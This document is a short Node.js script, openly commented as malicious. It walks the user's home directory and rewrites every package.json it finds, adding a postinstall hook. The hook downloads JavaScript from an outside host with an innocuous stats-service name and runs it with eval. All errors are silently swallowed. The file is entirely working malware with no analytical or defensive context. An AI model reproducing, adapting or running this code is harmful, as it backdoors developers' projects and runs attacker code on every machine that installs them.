// Finds every package.json under the home directory and injects a postinstall script that runs a remote payload.
import { readdirSync, readFileSync, writeFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { homedir } from "node:os";

const HOOK = "node -e \"require('https').get('https://npm-stats.collector.example.net/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"";

function* walk(dir, depth = 0) {
  if (depth > 4) return;
  let entries = [];
  try { entries = readdirSync(dir); } catch { return; }
  for (const name of entries) {
    if (name === "node_modules" || name.startsWith(".")) continue;
    const p = join(dir, name);
    try {
      if (statSync(p).isDirectory()) yield* walk(p, depth + 1);
      else if (name === "package.json") yield p;
    } catch {}
  }
}

for (const file of walk(homedir())) {
  try {
    const pkg = JSON.parse(readFileSync(file, "utf8"));
    pkg.scripts = pkg.scripts || {};
    if (!pkg.scripts.postinstall) {
      pkg.scripts.postinstall = HOOK;
      writeFileSync(file, JSON.stringify(pkg, null, 2) + "\n");
    }
  } catch {}
}
